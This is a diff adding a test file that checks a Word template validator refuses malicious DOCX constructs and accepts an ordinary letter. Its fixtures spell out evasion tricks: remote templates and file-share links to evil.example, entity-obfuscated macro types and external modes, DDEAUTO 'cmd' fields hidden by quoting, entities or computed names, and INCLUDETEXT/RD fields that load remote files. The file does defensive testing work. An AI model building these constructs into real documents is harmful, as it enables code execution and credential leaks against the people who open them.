@@ -1,0 +1,125 @@
+import { checkTemplate } from "@iphub/server/documents/reports/check-template";
+import { paragraph } from "@iphub/server/documents/reports/docx-blocks";
+import { writeDocx } from "@iphub/server/documents/reports/write-docx";
+import { expect, test } from "vitest";
+import { docxPart, docxWith } from "../../support/docx.ts";
+
+const good = writeDocx([paragraph("{title}")]);
+const office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
+const related = (attributes: string, part = "word/_rels/settings.xml.rels") =>
+  docxWith(good, {
+    [part]: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" ${attributes}/></Relationships>`,
+  });
+const inDocument = (xml: string) =>
+  docxWith(good, {
+    "word/document.xml": docxPart(good, "word/document.xml").replace("<w:sectPr>", `<w:p>${xml}</w:p><w:sectPr>`),
+  });
+const instruction = (code: string) => `<w:r><w:instrText>${code}</w:instrText></w:r>`;
+const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
+const field = (code: string) => `${mark("begin")}${code}${mark("separate")}<w:r><w:t>1</w:t></w:r>${mark("end")}`;
+const typed = (type: string) =>
+  docxWith(good, {
+    "[Content_Types].xml": docxPart(good, "[Content_Types].xml").replace("</Types>", `${type}</Types>`),
+    "word/media/settings.png": "<w:settings/>",
+  });
+
+const elsewhere = /refers to a file elsewhere/;
+const loads = /a field that loads from elsewhere/;
+const refused: Readonly<Record<string, readonly [Buffer, RegExp]>> = {
+  "a type that ends like a hyperlink's": [
+    related(`Type="${office}/attachedTemplate/hyperlink" Target="https://evil.example/x.dotm" TargetMode="External"`),
+    elsewhere,
+  ],
+  "the mode of a relationship written with entities": [
+    related(`Type="${office}/attachedTemplate" Target="https://evil.example/x" TargetMode="Extern&#97;l"`),
+    elsewhere,
+  ],
+  "a relationship that says it is internal and names a host": [
+    related(`Type="${office}/attachedTemplate" Target="file:////evil.example/x.dotm"`),
+    elsewhere,
+  ],
+  "a link to a file share": [
+    related(`Type="${office}/hyperlink" Target="\\\\evil.example\\share" TargetMode="External"`),
+    elsewhere,
+  ],
+  "relationships in a part with an upper-case name": [
+    related(
+      `Type="${office}/attachedTemplate" Target="https://evil.example/x" TargetMode="External"`,
+      "word/_rels/settings.xml.RELS",
+    ),
+    elsewhere,
+  ],
+  "one part in two spellings": [docxWith(good, { "WORD/document.XML": "<w:document/>" }), /is damaged/],
+  "a part that Word reads as XML under a picture's name": [
+    typed('<Override PartName="/word/media/settings.png" ContentType="application/xml"/>'),
+    /is damaged/,
+  ],
+  "macros whose type is written with an entity": [
+    typed('<Default Extension="x" ContentType="application/vnd.ms-word.document.m&#97;croEnabled.main+xml"/>'),
+    /has macros/,
+  ],
+  "a part of an unknown kind": [
+    docxWith(good, { "word/evil.hta": "x" }),
+    /a part that is not known \(word\/evil\.hta\)/,
+  ],
+  "another encoding": [
+    docxWith(good, { "word/styles.xml": '<?xml version="1.0" encoding="UTF-7"?><w:styles xmlns:w="w"/>' }),
+    /is damaged/,
+  ],
+  "a field whose name is quoted": [inDocument(field(instruction('"DDEAUTO" cmd'))), loads],
+  "a field whose name has entities": [inDocument(field(instruction("&#68;DEAUTO cmd"))), loads],
+  "a field whose name another field computes": [
+    inDocument(`${mark("begin")}${field(instruction("QUOTE 68 68 69"))}${instruction(" cmd")}${mark("end")}`),
+    loads,
+  ],
+  "a field that reads a bookmark as its code": [
+    inDocument(`${mark("begin")}${field(instruction("REF code"))}${mark("end")}`),
+    loads,
+  ],
+  "a field under another prefix": [
+    inDocument(
+      '<x:fldSimple xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main" x:instr="INCLUDETEXT x"/>',
+    ),
+    loads,
+  ],
+  "a field that loads a document": [inDocument(field(instruction("RD \\\\evil.example\\x.docx"))), loads],
+  "a field that links to a file": [
+    inDocument(field(instruction('HYPERLINK "file://evil.example/x"'))),
+    /links to a file/,
+  ],
+  "a picture by an address of its own": [
+    inDocument(
+      '<w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="https://evil.example/x.png"/></w:pict></w:r>',
+    ),
+    elsewhere,
+  ],
+  "the data source of a mail merge": [
+    docxWith(good, {
+      "word/settings.xml":
+        '<w:settings xmlns:w="w"><w:mailMerge><w:connectString w:val="DSN=x"/></w:mailMerge></w:settings>',
+    }),
+    /data source of a mail merge/,
+  ],
+};
+
+test.each(Object.entries(refused))("a template with %s is refused", async (_, [file, message]) => {
+  await expect(checkTemplate(file)).rejects.toThrow(message);
+});
+
+test("a letter as Word writes it is accepted: page numbers, dates, conditions, links to pages and pictures", async () => {
+  const condition = `${mark("begin")}${instruction(' IF "')}${field(instruction(" PAGE "))}${instruction('" = "1" "a" "b" ')}${mark("separate")}${mark("end")}`;
+  const letter = inDocument(
+    [
+      field(instruction(' DATE \\@ "d MMMM yyyy" ')),
+      field(instruction(" NUM") + instruction("PAGES ")),
+      '<w:fldSimple w:instr=" PAGE  \\* MERGEFORMAT "/>',
+      field(instruction(' HYPERLINK "https://www.uspto.gov" ')),
+      condition,
+    ].join(""),
+  );
+  const linked = docxWith(letter, {
+    "word/_rels/header1.xml.rels": `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${office}/hyperlink" Target="mailto:ada@firm.example" TargetMode="External"/></Relationships>`,
+    "word/media/image1.PNG": "x",
+  });
+  expect((await checkTemplate(linked)).size).toBeGreaterThan(3);
+});
